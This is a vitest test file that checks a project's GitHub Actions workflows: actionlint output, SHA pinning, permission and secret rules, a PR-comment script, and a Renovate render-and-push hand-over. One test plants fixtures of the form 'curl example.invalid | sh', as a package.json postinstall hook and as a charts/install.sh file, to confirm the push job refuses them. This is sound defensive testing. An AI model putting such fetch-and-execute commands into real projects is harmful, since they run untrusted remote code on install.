/**
 * The GitHub Actions workflows: the real actionlint binary (built from the
 * pinned version into .tools/bin, with shellcheck for run: scripts) passes
 * over them, and they follow the project's rules (actions pinned by SHA,
 * least-privilege permissions, no persisted credentials, concurrency groups).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { actionlint } from '../scripts/lint-workflows.js';
import { actionlintPath, ToolInstallError } from '../scripts/tools/project-tools.js';
import { checkWorkflow, checkWorkflows, formatProblems } from '../scripts/workflow-rules.js';
import { REPO_ROOT } from './support/temp-repo.js';

const scratch = mkdtempSync(join(tmpdir(), 'dubai-hub-workflows-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const CHECKOUT = 'actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd';
const workflow = (path: string) => parse(readFileSync(join(REPO_ROOT, '.github/workflows', path), 'utf8'));

describe('actionlint over .github/workflows', () => {
  it('passes', () => {
    const result = actionlint(REPO_ROOT);
    expect(result.output).toBe('');
    expect(result.ok).toBe(true);
  }, 240_000);

  it('fails on a workflow with a wrong expression and a shell bug, naming both', () => {
    mkdirSync(join(scratch, '.github/workflows'), { recursive: true });
    const broken = join(scratch, '.github/workflows/broken.yml');
    writeFileSync(
      broken,
      [
        'name: broken',
        'on: push',
        'permissions: {}',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-24.04',
        '    steps:',
        '      - run: echo ${{ github.evnt.name }}',
        '      - run: cd $RUNNER_TEMP && ls',
        '',
      ].join('\n'),
    );
    const result = actionlint(scratch, [broken]);
    expect(result.ok).toBe(false);
    expect(result.output).toContain('property "evnt" is not defined');
    expect(result.output).toMatch(/shellcheck reported issue in this script: SC2\d+/);
  }, 240_000);
});

describe('installing actionlint', () => {
  it('on a machine without Go, stops with a message that says what to install instead of skipping', () => {
    const tools = join(scratch, 'tools-without-go');
    const env = { ...process.env, PATH: join(scratch, 'empty-bin') };
    expect(() => actionlintPath(tools, env)).toThrow(ToolInstallError);
    expect(() => actionlintPath(tools, env)).toThrow(/actionlint v\d+\.\d+\.\d+ is built from source with Go \(1\.24 or newer\), but `go` is not available on this machine.*Install it and run the tests again/s);
  });
});

describe('the workflow rules', () => {
  it('hold for every workflow in the repository', () => {
    expect(formatProblems(checkWorkflows(REPO_ROOT))).toBe('');
  });

  it('refuse tags instead of SHAs, SHAs without a release comment, write-all at the top, kept credentials and no concurrency', () => {
    const problems = checkWorkflow(
      'bad.yml',
      [
        'name: bad',
        'on: push',
        'permissions: write-all',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-24.04',
        '    steps:',
        '      - uses: actions/checkout@v6',
        `      - uses: ${CHECKOUT}`,
        '      - uses: actions/setup-node@53b83947a5a98c8d113130e565377fae1a50d02f # latest',
        '',
      ].join('\n'),
    );
    const text = formatProblems(problems);
    expect(text).toContain('bad.yml:3: top-level permissions grant write access (write-all)');
    expect(text).toContain('bad.yml:1: no top-level concurrency: group');
    expect(text).toContain('bad.yml:8: job test: actions/checkout@v6 is not pinned by a full commit SHA');
    expect(text).toContain(`bad.yml:9: job test: ${CHECKOUT} has no "# vX.Y.Z" comment`);
    expect(text).toContain('bad.yml:10: job test: actions/setup-node@53b83947a5a98c8d113130e565377fae1a50d02f has no "# vX.Y.Z" comment');
    expect(text).toContain('bad.yml:8: job test: actions/checkout leaves the token in .git/config');
    expect(problems).toHaveLength(7);
  });

  it('refuse a workflow without a permissions block, and let only a job with contents: write keep checkout credentials', () => {
    expect(formatProblems(checkWorkflow('none.yml', 'on: push\nconcurrency: x\njobs: {}\n'))).toContain('none.yml:1: no top-level permissions: block');
    const pushing = [
      'on: push',
      'permissions: {}',
      'concurrency: x',
      'jobs:',
      '  push:',
      '    runs-on: ubuntu-24.04',
      '    environment: renovate-render',
      '    permissions:',
      '      contents: write',
      '    steps:',
      `      - uses: ${CHECKOUT} # v6.0.2`,
      '',
    ].join('\n');
    expect(checkWorkflow('push.yml', pushing)).toEqual([]);
    expect(formatProblems(checkWorkflow('read.yml', pushing.replace('contents: write', 'contents: read')))).toContain('read.yml:11: job push: actions/checkout leaves the token');
  });

  it('refuse a pushing job or a job reading a secret outside a GitHub environment', () => {
    const job = (lines: string[]) => ['on: push', 'permissions: {}', 'concurrency: x', 'jobs:', '  push:', '    runs-on: ubuntu-24.04', ...lines, '    steps:', '      - run: git push', ''].join('\n');
    expect(formatProblems(checkWorkflow('w.yml', job(['    permissions:', '      contents: write'])))).toContain(
      'w.yml:5: job push can push (contents: write) outside a GitHub environment',
    );
    const token = job(['    env:', '      TOKEN: ${{ secrets.RENDER_PUSH_TOKEN || github.token }}']);
    expect(formatProblems(checkWorkflow('t.yml', token))).toContain('t.yml:5: job push reads secret(s) RENDER_PUSH_TOKEN outside a GitHub environment');
    expect(checkWorkflow('t.yml', token.replace('    env:', '    environment: { name: renovate-render }\n    env:'))).toEqual([]);
    expect(checkWorkflow('g.yml', job(['    env:', '      TOKEN: ${{ secrets.GITHUB_TOKEN }}']))).toEqual([]);
    expect(checkWorkflow('e.yml', job(['    environment: ""', '    env:', '      TOKEN: ${{ secrets.RENDER_PUSH_TOKEN }}']))).toHaveLength(1);
    const workflowLevel = ['on: push', 'permissions: {}', 'concurrency: x', 'env:', '  TOKEN: ${{ secrets.RENDER_PUSH_TOKEN }}', 'jobs: {}', ''].join('\n');
    expect(formatProblems(checkWorkflow('top.yml', workflowLevel))).toContain('top.yml:5: the workflow-level env: hands secret(s) RENDER_PUSH_TOKEN to every job');
  });
});

describe('what the workflows do', () => {
  it('CI installs with npm ci, type checks, refuses a stale rendered/, installs Redis for the system test and runs npm test', () => {
    const steps: { run?: string }[] = workflow('ci.yml').jobs.test.steps;
    const runs = steps.map((step) => step.run).filter(Boolean);
    expect(runs).toEqual([
      'npm ci --no-audit --no-fund',
      'npm run -s typecheck',
      'npm run -s render -- --check',
      'npm run -s tools',
      'sudo apt-get install -y --no-install-recommends redis-server',
      'npm test',
    ]);
    expect(workflow('ci.yml').on).toEqual({ pull_request: null, push: { branches: ['main'] } });
  });

  it('the comment workflow runs the pull request code read-only and comments from a job that runs none of it', () => {
    const jobs = workflow('rendered-diff.yml').jobs;
    expect(jobs.summarise.permissions).toEqual({ contents: 'read' });
    expect(jobs.summarise.steps.map((step: { run?: string }) => step.run ?? '').join('\n')).toContain('npm run -s diff -- --base HEAD^1 --markdown');
    expect(jobs.comment.permissions).toEqual({ 'pull-requests': 'write' });
    expect(jobs.comment.steps).toHaveLength(1);
    expect(jobs.comment.steps[0].with.script).toContain("'<!-- dubai-hub:rendered-diff -->'");
    expect(jobs.comment.steps[0].with.script).toContain('updateComment');
  });

  it('the Renovate workflow pulls bumped charts, renders, and pushes only rendered/, chart archives, the chart lock and the schemas, from a job that runs no project code', () => {
    const jobs = workflow('renovate-render.yml').jobs;
    expect(workflow('renovate-render.yml').on).toEqual({ push: { branches: ['renovate/**'] } });
    expect(jobs.render.permissions).toEqual({ contents: 'read' });
    expect(jobs.push.permissions).toEqual({ contents: 'write' });
    // The push token is a secret of this environment, released only to renovate/** (its deployment branch policy).
    expect(jobs.push.environment).toBe('renovate-render');
    expect(jobs.render.environment).toBeUndefined();
    const renderRuns: string[] = jobs.render.steps.map((step: { run?: string }) => step.run ?? '');
    const [pullStep, renderStep] = [renderRuns.indexOf('npm run -s charts:pull'), renderRuns.indexOf('npm run -s render')];
    expect(pullStep).toBeGreaterThan(-1);
    expect(renderStep).toBeGreaterThan(pullStep);
    const pushScript: string = jobs.push.steps.map((step: { run?: string }) => step.run ?? '').join('\n');
    expect(pushScript).not.toMatch(/\bnpm\b|\bnpx\b|\bnode\b/);
    expect(pushScript).toContain("grep -Ev '^(rendered/|charts/[^/]+\\.tgz$|charts/charts\\.lock\\.yaml$|environments/[^/]+\\.schema\\.json$)'");
  });
});

describe('the comment step of rendered-diff.yml (its github-script, run with a stand-in GitHub client)', () => {
  const MARKER = '<!-- dubai-hub:rendered-diff -->';
  const script: string = workflow('rendered-diff.yml').jobs.comment.steps[0].with.script;
  type Comment = { id: number; body: string; user: { type: string }; html_url: string };

  async function runScript(existing: Comment[], body: string) {
    const calls: { method: string; params: Record<string, unknown> }[] = [];
    const failures: string[] = [];
    const record = (method: string) => async (params: Record<string, unknown>) => {
      calls.push({ method, params });
      return { data: { html_url: 'https://example.invalid/c/new' } };
    };
    const listComments = async () => ({ data: existing });
    const github = {
      paginate: async (method: unknown, params: Record<string, unknown>) => {
        expect(method).toBe(listComments);
        expect(params).toMatchObject({ owner: 'dubai-hub', repo: 'platform', issue_number: 42 });
        return existing;
      },
      rest: { issues: { listComments, updateComment: record('updateComment'), createComment: record('createComment') } },
    };
    const context = { repo: { owner: 'dubai-hub', repo: 'platform' }, payload: { pull_request: { number: 42 } } };
    const core = { info: () => undefined, setFailed: (message: string) => failures.push(message) };
    const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor;
    await new AsyncFunction('github', 'context', 'core', 'process', script)(github, context, core, { env: { BODY: body } });
    return { calls, failures };
  }

  it('creates the comment on the first push', async () => {
    const { calls } = await runScript([{ id: 1, body: 'LGTM', user: { type: 'User' }, html_url: '' }], `${MARKER}\nsummary`);
    expect(calls).toEqual([{ method: 'createComment', params: { owner: 'dubai-hub', repo: 'platform', issue_number: 42, body: `${MARKER}\nsummary` } }]);
  });

  it('updates its own comment on later pushes instead of adding one, ignoring people who quote the marker', async () => {
    const { calls } = await runScript(
      [
        { id: 1, body: `${MARKER}\nquoted by a person`, user: { type: 'User' }, html_url: '' },
        { id: 7, body: `${MARKER}\nold summary`, user: { type: 'Bot' }, html_url: '' },
      ],
      `${MARKER}\nnew summary`,
    );
    expect(calls).toEqual([{ method: 'updateComment', params: { owner: 'dubai-hub', repo: 'platform', comment_id: 7, body: `${MARKER}\nnew summary` } }]);
  });

  it('fails instead of posting when the summary job produced nothing', async () => {
    const { calls, failures } = await runScript([], '');
    expect(calls).toEqual([]);
    expect(failures).toEqual(['The summary job produced no comment body; see its log.']);
  });
});

describe('the hand-over in renovate-render.yml (its shell steps, run in temporary git repositories)', () => {
  const jobs = workflow('renovate-render.yml').jobs;
  const patchStep: string = jobs.render.steps.find((step: { id?: string }) => step.id === 'patch').run;
  const pushStep: string = jobs.push.steps.find((step: { name?: string }) => step.name === 'Apply, commit and push').run;
  const sh = (cwd: string, script: string, env: Record<string, string>) => spawnSync('bash', ['-eo', 'pipefail', '-c', script], { cwd, env: { ...process.env, ...env }, encoding: 'utf8' });
  const gitIn = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', stdio: 'pipe' });
  const outputs = (file: string) => Object.fromEntries(readFileSync(file, 'utf8').split('\n').filter(Boolean).map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));

  function setUp(name: string) {
    const base = join(scratch, name);
    const origin = join(base, 'origin.git');
    mkdirSync(base, { recursive: true });
    gitIn(base, 'init', '-q', '--bare', '-b', 'main', origin);
    const seed = join(base, 'seed');
    gitIn(base, 'clone', '-q', origin, seed);
    gitIn(seed, 'config', 'user.email', 'renovate@example.com');
    gitIn(seed, 'config', 'user.name', 'renovate');
    mkdirSync(join(seed, 'rendered/dev'), { recursive: true });
    writeFileSync(join(seed, 'rendered/dev/deployment.yaml'), 'image: litellm:main-v1.85.1\n');
    writeFileSync(join(seed, 'package.json'), '{}\n');
    mkdirSync(join(seed, 'environments'), { recursive: true });
    writeFileSync(join(seed, 'environments/dev.yaml'), 'litellm:\n  image:\n    tag: main-v1.86.0\n');
    gitIn(seed, 'checkout', '-q', '-b', 'renovate/litellm');
    gitIn(seed, 'add', '-A');
    gitIn(seed, '-c', 'core.hooksPath=/dev/null', 'commit', '-qm', 'Update litellm to main-v1.86.0');
    gitIn(seed, 'push', '-q', 'origin', 'renovate/litellm');
    return { base, origin, seed };
  }

  it('carries the re-rendered files from the read-only job to the pushing job and pushes one commit', () => {
    const { base, origin, seed } = setUp('handover');
    // What `npm run charts:pull` and `npm run render` would do on the branch:
    mkdirSync(join(seed, 'charts'), { recursive: true });
    const archive = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0x00, 0xfe, 0x01]);
    writeFileSync(join(seed, 'charts/demo-0.1.0.tgz'), archive);
    writeFileSync(join(seed, 'charts/charts.lock.yaml'), 'charts:\n  - name: demo\n');
    writeFileSync(join(seed, 'rendered/dev/deployment.yaml'), 'image: litellm:main-v1.86.0\n');
    writeFileSync(join(seed, 'rendered/dev/job.yaml'), 'name: migrate-main-v1-86-0\n');
    const output = join(base, 'render-output');
    writeFileSync(output, '');
    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
    expect(render.status, render.stdout + render.stderr).toBe(0);
    const handed = outputs(output);
    expect(handed['changed']).toBe('true');

    const pusher = join(base, 'pusher');
    gitIn(base, 'clone', '-q', '--branch', 'renovate/litellm', origin, pusher);
    const push = sh(pusher, pushStep, { PATCH: handed['patch']!, BRANCH: 'renovate/litellm', RUNNER_TEMP: base });
    expect(push.status, push.stdout + push.stderr).toBe(0);
    const log = gitIn(origin, 'log', '-1', '--format=%an <%ae>%n%s', 'renovate/litellm');
    expect(log).toBe('github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>\nRender rendered/ for renovate/litellm\n');
    expect(gitIn(origin, 'show', 'renovate/litellm:rendered/dev/job.yaml')).toBe('name: migrate-main-v1-86-0\n');
    expect(gitIn(origin, 'diff', '--name-only', 'renovate/litellm~1', 'renovate/litellm').trim().split('\n')).toEqual([
      'charts/charts.lock.yaml',
      'charts/demo-0.1.0.tgz',
      'rendered/dev/deployment.yaml',
      'rendered/dev/job.yaml',
    ]);
    expect(execFileSync('git', ['show', 'renovate/litellm:charts/demo-0.1.0.tgz'], { cwd: origin })).toEqual(archive);
  });

  it('says so and hands over nothing when rendered/ is already up to date', () => {
    const { base, seed } = setUp('clean');
    const output = join(base, 'render-output');
    writeFileSync(output, '');
    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
    expect(render.status).toBe(0);
    expect(render.stdout).toContain('charts/ and rendered/ are already up to date.');
    expect(outputs(output)).toEqual({ changed: 'false' });
  });

  it('refuses a patch that touches anything outside rendered/, the chart archives and the chart lock, in either job', () => {
    const { base, origin, seed } = setUp('outside');
    writeFileSync(join(seed, 'package.json'), '{"scripts":{"postinstall":"curl example.invalid | sh"}}\n');
    const output = join(base, 'render-output');
    writeFileSync(output, '');
    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
    expect(render.status).not.toBe(0);
    expect(render.stdout).toContain('::error::npm run charts:pull and npm run render changed files outside rendered/ and charts/: package.json');

    // charts/ holds archives and the lock; anything else there is refused as well.
    const chartsOnly = setUp('outside-charts');
    mkdirSync(join(chartsOnly.seed, 'charts'), { recursive: true });
    writeFileSync(join(chartsOnly.seed, 'charts/install.sh'), 'curl example.invalid | sh\n');
    const chartsOutput = join(chartsOnly.base, 'render-output');
    writeFileSync(chartsOutput, '');
    const chartsRender = sh(chartsOnly.seed, patchStep, { GITHUB_OUTPUT: chartsOutput });
    expect(chartsRender.status).not.toBe(0);
    expect(chartsRender.stdout).toContain('outside rendered/ and charts/: charts/install.sh');

    // A patch crafted by hand is refused by the pushing job as well.
    const crafted = execFileSync('bash', ['-c', 'git add -A && git diff --cached --binary | gzip -9 | base64 -w0'], { cwd: seed, encoding: 'utf8' });
    const pusher = join(base, 'pusher');
    gitIn(base, 'clone', '-q', '--branch', 'renovate/litellm', origin, pusher);
    const push = sh(pusher, pushStep, { PATCH: crafted, BRANCH: 'renovate/litellm', RUNNER_TEMP: base });
    expect(push.status).not.toBe(0);
    expect(push.stdout).toContain('::error::Refusing a patch that touches files outside rendered/ and charts/: package.json');
    expect(gitIn(origin, 'rev-list', '--count', 'renovate/litellm').trim()).toBe('1');
  });
});
